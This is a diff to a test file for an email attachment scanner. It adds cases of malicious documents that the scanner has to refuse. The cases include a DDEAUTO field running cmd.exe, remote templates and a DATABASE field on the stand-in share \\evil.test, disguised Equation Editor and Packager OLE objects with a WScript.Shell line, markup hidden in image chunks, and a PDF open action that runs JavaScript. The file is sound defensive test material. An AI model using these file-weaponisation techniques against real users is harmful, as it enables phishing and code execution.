@@ -6,7 +6,7 @@ import { SmtpSink } from '@verdalia/smtp-sink';
 import { build, contactForm, listen, postContact, tempDir } from './helper.js';
 import { eicar, startClamd } from './support/clamd.js';
 import { freePort } from './support/free-port.js';
-import * as hostile from './support/hostile-files.js';
+import * as hostile from '../../../packages/attachment-check/test/support/hostile-files.js';
 import { makeRealDocuments } from './support/real-documents.js';
 import { TestSiteverify } from './support/siteverify.js';
 import { fieldParagraph } from './support/word-fields.js';
@@ -428,6 +428,122 @@ const refused: Case[] = [
     ] as const
   ).map(([what, make]) =>
     file(`a phone photo with ${what} after the image`, 'IMG_0412.jpg', followed(photo, make)),
+  ),
+  // Where our reading differed from the reader's: each was accepted before.
+  file(
+    'a DOCX whose DDEAUTO field hides behind an x:instr of an ignorable namespace',
+    'factura.docx',
+    docxWith(async () => [
+      await partWith(
+        'word/document.xml',
+        '<w:sectPr',
+        '<w:p><w:fldSimple xmlns:x="urn:example:x" w:instr="DDEAUTO c:\\windows\\system32\\cmd.exe &quot;/k calc.exe&quot;" x:instr="PAGE"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>',
+      ),
+    ]),
+  ),
+  file(
+    'a DOCX whose remote template is an external relationship typed as a link',
+    'factura.docx',
+    docxWith(async () => [
+      await partWith(
+        'word/settings.xml',
+        '</w:settings>',
+        `<w:attachedTemplate xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"/>`,
+      ),
+      {
+        name: settingsRels,
+        data: hostile.rels(
+          hostile.relationship('rId1', 'hyperlink', '\\\\evil.test\\share\\t.dotm', true),
+        ),
+      },
+    ]),
+  ),
+  file(
+    'a DOCX with a DATABASE field reading a share',
+    'factura.docx',
+    docxWith(async () => [
+      await partWith(
+        'word/document.xml',
+        '<w:sectPr',
+        fieldParagraph(
+          String.raw`DATABASE \d "\\\\evil.test\\datos\\clientes.mdb" \s "SELECT * FROM t" `,
+        ),
+      ),
+    ]),
+  ),
+  file(
+    'a DOCX with a task-pane add-in from a file-share catalog',
+    'factura.docx',
+    docxWith(() => [
+      {
+        name: 'word/webextensions/webextension1.xml',
+        data: Buffer.from(
+          '<?xml version="1.0" encoding="UTF-8"?><we:webextension xmlns:we="http://schemas.microsoft.com/office/webextensions/webextension/2010/11" id="{52811C31-4593-43B8-A697-EB873422D156}"><we:reference id="{8C9E7C4D-6D59-4A0E-A6A8-3D5E1E2B7F10}" version="1.0.0.0" store="\\\\evil.test\\catalog" storeType="FileSystem"/></we:webextension>',
+        ),
+      },
+    ]),
+  ),
+  file('a DOC with Equation Editor 2.0 labelled a Microsoft Graph chart', 'factura.doc', () =>
+    hostile.docWith(
+      real.doc,
+      {
+        '/ObjectPool/_1234/\u0001CompObj': hostile.compObj(
+          'Microsoft Graph Chart',
+          'MSGraph.Chart.8',
+        ),
+        '/ObjectPool/_1234/Equation Native': Buffer.alloc(256, 1),
+      },
+      { '/ObjectPool/_1234/': '0017020000000000c000000000000046' },
+    ),
+  ),
+  file('a DOC with a Packager object of the class 0003000D labelled a picture', 'factura.doc', () =>
+    hostile.docWith(
+      real.doc,
+      {
+        '/ObjectPool/_1234/\u0001CompObj': hostile.compObj('Bitmap Image', 'Paint.Picture'),
+        '/ObjectPool/_1234/\u0001Ole10Native': Buffer.from(
+          '\u0000\u0000\u0000\u0000factura.vbs\u0000CreateObject("WScript.Shell").Run "calc"',
+          'latin1',
+        ),
+      },
+      { '/ObjectPool/_1234/': '0d00030000000000c000000000000046' },
+    ),
+  ),
+  file('a DOC with an Equation Editor storage without a CompObj stream', 'factura.doc', () =>
+    hostile.docWith(
+      real.doc,
+      { '/ObjectPool/_1234/Equation Native': Buffer.alloc(256, 1) },
+      { '/ObjectPool/_1234/': '02ce020000000000c000000000000046' },
+    ),
+  ),
+  file('a DOC whose associated template is on a network share', 'factura.doc', () =>
+    hostile.docWithAssociatedTemplate(real.doc, '\\\\evil.test\\share\\x.dot'),
+  ),
+  file(
+    'a DOCX embedding Equation Editor 2.0 labelled a Microsoft Graph chart',
+    'factura.docx',
+    docxWith(() => [
+      {
+        name: 'word/embeddings/oleObject1.bin',
+        data: hostile.oleObjectFile('0017020000000000c000000000000046', {
+          '\u0001CompObj': hostile.compObj('Microsoft Graph Chart', 'MSGraph.Chart.8'),
+          'Equation Native': Buffer.alloc(256, 1),
+        }),
+      },
+    ]),
+  ),
+  ...Object.entries(hostile.pictureMarkup).flatMap(([what, markup]) => [
+    file(`a phone photo with ${what} in a JPEG comment`, 'IMG_0412.jpg', () =>
+      hostile.jpegWithSegment(real.photo, 0xfe, Buffer.from(markup, 'latin1')),
+    ),
+    file(`a screenshot PNG with ${what} in a compressed text chunk`, 'captura.png', () =>
+      hostile.pngWithChunk(real.screenshot, hostile.pngText('zTXt', 'Comment', markup)),
+    ),
+  ]),
+  file(
+    'a phone photo followed by a PDF whose open action runs JavaScript',
+    'IMG_0412.jpg',
+    followed(photo, pdfWith({ 90: javascriptAction }, '/OpenAction 90 0 R')),
   ),
   file(
     'a motion photo whose video hides a web page',
